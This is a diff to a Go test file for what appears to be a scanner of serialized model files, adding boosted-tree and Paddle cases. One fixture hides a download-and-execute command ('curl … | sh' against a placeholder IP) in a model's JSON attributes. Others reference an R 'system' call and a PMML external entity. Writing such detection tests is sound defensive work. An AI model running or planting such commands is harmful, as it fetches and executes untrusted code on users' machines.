@@ -66,6 +66,9 @@ func TestFormatsOfData(t *testing.T) {
 		{what: "r: an argument that waits", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:4 b32:0 b32:253 b32:1026 b32:1 b32:262153 b32:1 "a" b32:5 b32:252 b32:6 b32:1 b32:262153 b32:4 "stop" b32:254 b32:254 b32:254 b32:254`},
 		{what: "r: the call that a model keeps", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:6 b32:1 b32:262153 b32:6 "system" b32:254`},
 		{what: "r: cut short", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:19 b32:2 b32:254`, left: true},
+		{what: "boosted trees: commands in a text", name: "m.json", listing: `"{\"learner\":{\"attributes\":{\"note\":\"curl -s http://192.0.2.1/x | sh\"}}}"`, rules: []string{"unaccounted-bytes"}},
+		{what: "boosted trees", name: "m.json", listing: `"{\"learner\":{\"attributes\":{},\"feature_names\":[]}}"`},
+		{what: "paddle, which is not read", name: "m.pdmodel", listing: `0a 0b ff`, left: true},
 		{what: "pmml: entities", name: "m.pmml", listing: `"<!DOCTYPE a [<!ENTITY b 'c'>]><PMML></PMML>"`, rules: []string{"pmml-external-entity"}},
 	} {
 		rules, left := saw(t, c.name, c.listing)
